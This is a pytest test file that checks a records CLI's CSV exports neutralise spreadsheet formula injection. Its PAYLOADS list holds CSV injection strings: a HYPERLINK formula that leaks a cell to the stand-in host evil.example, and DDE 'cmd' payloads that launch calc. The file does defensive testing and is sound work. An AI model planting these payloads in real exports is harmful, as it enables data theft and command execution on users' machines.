"""CSV formula injection: a record value never reaches a spreadsheet as a formula.

Every CSV (list, completeness, report, export) comes from one writer that puts a ``'`` before a
text cell starting with = + - @ TAB or CR (OWASP); ``--raw-csv`` keeps the exact text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import GOOD_EVENT, GOOD_ORG

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _yaml(text: str) -> str:
    return (
        '"'
        + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
        + '"'
    )


@pytest.fixture
def hostile(make_records: Callable[..., Path]) -> Path:
    files = {}
    for n, payload in enumerate(PAYLOADS):
        org_id = f"wksbm-contoh-{n}"
        files[f"organisasi/{org_id}.yaml"] = GOOD_ORG.replace(
            "id: wksbm-contoh", f"id: {org_id}"
        ).replace("nama: WKSBM Kalurahan Contoh", f"nama: {_yaml(payload)}")
        event_id = f"2025-06-1{n}-pelatihan"
        files[f"kegiatan/2025/{event_id}.yaml"] = (
            GOOD_EVENT.replace("id: 2025-06-17-pelatihan", f"id: {event_id}")
            .replace("tanggal: 2025-06-17", f"tanggal: 2025-06-1{n}")
            .replace("judul: Pelatihan Manajemen Organisasi WKSBM", f"judul: {_yaml(payload)}")
            .replace("[wksbm-contoh]", f"[{org_id}]")
        )
    return make_records(files)


COMMANDS = [
    ("list", "organisasi", "-f", "csv"),
    ("list", "kegiatan", "-f", "csv"),
    ("completeness", "-f", "csv", "--as-of", "2026-01-01"),
    ("report", "--year", "2025", "-f", "csv"),
]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _export(run_cli: Callable[..., Any], root: Path, out: Path, *extra: str) -> str:
    result = run_cli("--records", str(root), "export", "-f", "csv", "-o", str(out), *extra)
    assert result.exit_code == 0, result.output
    return "".join(p.read_bytes().decode("utf-8") for p in sorted(out.iterdir()))


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c[:3]))
def test_no_csv_cell_starts_a_formula(
    run_cli: Callable[..., Any], hostile: Path, command: tuple[str, ...]
) -> None:
    result = run_cli("--records", str(hostile), *command)
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    for payload in PAYLOADS:
        assert "'" + payload in cells


def test_export_csv_neutralises_every_table(
    run_cli: Callable[..., Any], hostile: Path, tmp_path: Path
) -> None:
    cells = _cells(_export(run_cli, hostile, tmp_path / "tabel"))
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert "'" + PAYLOADS[0] in cells


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c[:3]))
def test_raw_csv_keeps_the_exact_text(
    run_cli: Callable[..., Any], hostile: Path, command: tuple[str, ...]
) -> None:
    result = run_cli("--records", str(hostile), *command, "--raw-csv")
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    for payload in PAYLOADS:
        assert payload in cells


def test_export_raw_csv_keeps_the_exact_text(
    run_cli: Callable[..., Any], hostile: Path, tmp_path: Path
) -> None:
    cells = _cells(_export(run_cli, hostile, tmp_path / "tabel", "--raw-csv"))
    assert all(payload in cells for payload in PAYLOADS)


def test_ordinary_values_and_numbers_are_untouched() -> None:
    from wksbm_cli.core.csv_text import csv_text, neutralise

    text = csv_text(
        ["id", "nama", "jumlah", "tanggal"],
        [["wksbm-maguwoharjo", "WKSBM Kalurahan Maguwoharjo", -3, "2025-06-17"]],
    )
    assert text == (
        "id,nama,jumlah,tanggal\nwksbm-maguwoharjo,WKSBM Kalurahan Maguwoharjo,-3,2025-06-17\n"
    )
    assert neutralise("Bimtek - lanjutan") == "Bimtek - lanjutan"
    assert neutralise("-") == "'-"
